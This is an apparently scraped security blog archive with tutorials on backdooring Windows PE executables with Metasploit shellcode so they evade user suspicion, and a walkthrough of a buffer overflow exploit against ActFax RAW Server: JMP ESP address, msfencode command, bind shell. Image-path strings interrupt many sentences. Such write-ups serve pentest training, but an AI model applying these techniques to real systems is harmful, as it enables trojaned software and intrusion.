Highlight those changes and save them. Now set up a listener and run the executable. BOOM!! We have shell. We are DONE!!!

Not so fast. You should have noticed that even though you received a shell, the application was not launched. Exit the shell. WTH??? What just happened? Exiting the shell launches the application ???? This is where the fun begins.

We are going to have to step through the shellcode to determine what exactly is responsible for this behaviour. Luckily I have done that for you. I spent DAYS looking and consulting with friends to get to the bottom of this. You can ask MaXe aka @InterN0t how many pms I sent him on the issue. I would venture say a thousand or so.....

As it turns out the cause of this behaviour is dueto a call to WaitForSingleObject. The function takes two parameters. However the one of interest to us is the timeout parameter. And our shellcode in all its wisdom is passing a non-zero value aka wait infinitely.

It gets even more interesting. Finding this parameter is not as easy as it sounds. Trust me when I tell you it isn't. If you generated your shellcode with say msf v3.2then it's not so bad.  The parameter is actually PUSH -1. See below:

However if you used a later version like in my case msf 4.5, then the PUSH -1 which causes the shellcode to wait infinitely is implemented differently. It's implemented as series of instructions:

DEC ESI decrements ESI by 1, resulting in ESI being equal to 00000000. The PUSH ESI pushes it to the stack, at this point that value is FFFF FFFF or -1. Finally INC ESI brings it back to 0000 0000 again. That FFFF FFFF later gets passed to the WaitForSingleObject function.  You should track this value for a better understanding of what is happening. In your debugging efforts be careful not to focus on the wrong function(e.g. WaitForSingleObjectEx) as I did.

If you don't want to push -1 to the stack then you can replace DEC ESI and PUSH ESI with NOPS.
Again I have to say thanks to MaXe for not only discovering this but also for taking the time to answer ALL my questions.

Depending on your environment save those changes. Now when you run your executable, the application should launch without you having to kill your shell. Your victim will be none the wiser.

I bet you must saying there has to be a easier way than this. I am sure there is. But it never hurts to know what's happening under the hood. Do this a few timesand it's really simple and straight forward. Keep in mind though that some executables have mechanisms in place to guard against this activity.

Special Thanks To:

Backdooring PE Files - Part 1

Sometimes during an engagement, whether it be a social engineering gig or network penetration test, you may find that you need to create a backdoored EXE and then trick a user into running it. There are several ways to achieve this.  And this series of posts, is aimed at discussing a few of them.

This topic has of course been covered several times on the interwebs. However, I am currently preparing for  the Offsec OSCE challenge and thought what better way to solidify a concept than to share it with others.

In this two part series I will go over:1. Setting up the executable for code injection
  2. Code Injection and execution
The easiest method is toprobably use the msfpayload option in the Metasploit framework. The process is quite simple. You start by first downloading the executable you wish to manipulate. And then pass it as a parameter to msfpayload.

The command is as shown in the diagram below:

When the user tries to execute this file our shellcode is triggered and its game over. However, you will note that in this scenario the "backdoored" executable file did not launch the application. Now this might raise a red flag for the keen user. And he may suspect that something fishy is going on.

So how how can we prevent this behaviour? That's easy. Well we could use the -k(run it in another thread) option with msfencode and be done. There are also a number of other publiclyavailable tools or we could simply do it ourselves. By now you must have guessed that we will be choosing the latter option. Why? Because that's what we do :)

Before we go any further take some time to configure your environment with the following tools:

I am also using BackTrack 5 R3 and WIN XP SP3.

The approach we will take is simple:
  1. Hijack code execution
  2. Redirect execution to our shellcode3. Execute shellcode
  4. Return to normal execution
That's it. So let's get started.

First off, we need to modify the executable and add enough space for the shellcode we are going to inject. To do this, open the the executable using LordPE. Click the sections button and you should see something similiar to:

From this you can see the current structure of our PE file. As a side note for more information on the structure of PE files you can check here. We are going to add a new section and later use this to house our shellcode. We do this by right clicking on one of the current sections andchoosing add section header. The new header is called .NewSec. We want to add at least 1000 bytes as this should be enough space for our shellcode. Rightclick on .NewSec and select edit section header. In the Edit SectionHeaderwindow change the VirtualSize and RawSize to 1000 as shown:

It is important to note that our newly added section needs to be writeable. Click on Flags and ensure that the writeable option is checked. See below:

 At this point we have:
  1. Added a new section called .NewSec
  2. Allocated 1000 bytes
  3. Marked section as writeable
We are almost done. Save your changes. If you try to run the executable again you should receive an error similiar to :

It would appear as if we have borked our executable file. As it stands now, the file expects to have 1000 bytes at the end of it. Let's fix this error. Open the file using XVI32 and navigate all the way to the end.

Go to Edit -> Insert String and insert a 1000 bytes as shown:

Save your changes and close the application. If you try to execute the file again it should function as normal. At this stage our modified executable is ready for our backdoor.

That's all for now. In part 2, we will add our shellcode and achieve total pwnage.

Sunday, February 24, 2013

Hacking ActFax RAW Server

On February 6, 2013 Craig Freyman aka @cd1zz posted a blog entry regarding a bug he had discovered in ActFax Server. It makes for an interesting read and I highlyrecommend checking it out if you have not already done so.

I wanted to recreate the bug in my own environment, but for some reason I was not able totrigger a crash using the "@F506" command. I was however able to use the "@F000" command. I took a slightly different approach to get execution and thought I would share it with you. Keep in mind that Craig has already done all the heavy lifting. As mentioned in his post the bug has already been fixed so I had to search the interwebs for a previous version.

For this tutorial I am using windows XP SP3 and a vulnerable version of ActFax Server. I also configured the RAW Server to use port 5555. We start our journey by firing up Immunity and opening the ActFax application. Having already determined the command that would trigger a crash, I used the following script to send a string containing 2500 characters. This pattern was created using as shown:

Sending that string produced a crash that resulted in our registers looking like this:We can see that we have two registers that contain parts of our buffer. That's good. We are now only a few steps away from world domination. Our next step is to figure out which bytes overwrite EIP. For this we again turn to and use the pattern_offset command as shown:

Of course if you wanted to, you could also use the pattern_create and pattern_offset scripts from the metasploit framework. The scripts are located in the tools directory.

To ensure that we have identified the correct bytes, we modify our script and resend our buffer. When we generate the crash we should see EIP being overwritten with four B's(HEX \x42). And that is indeed what we see. Life is good!!!

At this stage our registers look like this:Our next step is to get to one of the registers under our control. In this case we will access ESP. As Craig mentioned, there are a lot of bad chars to contend with. After a bit of searching I used the JMP ESP command  in the WINMM.dll at memory address 76B43ADC.

This jump will take us into our C's. However we only have approx. 440 bytes to place our shellcode. This is not enough space to place anything meaningful. We will therefore use this limited space as a jump off point to get to a larger space i.e. our A's.

We can do this by using a technique developed by Aaron Adams and published in the Phrack magazine article 7. The script I used can be found here. Aaron essentially uses some floating point calculations to determine the position of EIP and then copies it into ECX. Once that is done we can decrease/increase ECX asrequired in order to achieve our goals. On a sidenote I hope to be as good this guy one day. Now back to our regular programming. The jump took me back approx. 1000+ bytes which is more than enough spacefor our payload.

But wait there is a problem and that problem is bad chars.  To get around this restriction we need to encode our script. I took the following steps to accomplish that :

  1. Save the script to a file with a .bin extension. I called it stackjmp.bin
  2. Compile with nasm using: nasm stackjmp.bin -o stackjmp
  3. Use msfencode to encode stackjmp. Remember we need to filter bad chars.  msfencode -i stackjmp -e x86/alpha_mixed -b "\x40"
At this point you should have something resembling this:

If you look carefully you will see that the highlighted section is the start of ourdecoded shellcode. At this point we are pretty much done. We simply generate our payload, in this case I used a bind shell. Again, remember we need to encode our payload.

And we have our shell:

The final code can be found here.

As mentioned at the start most if not all the heavy liftingwas done by Craig Freyman. He figured out the protocol in use and fuzzed the application etc. I just wantedto see if I could get shell.........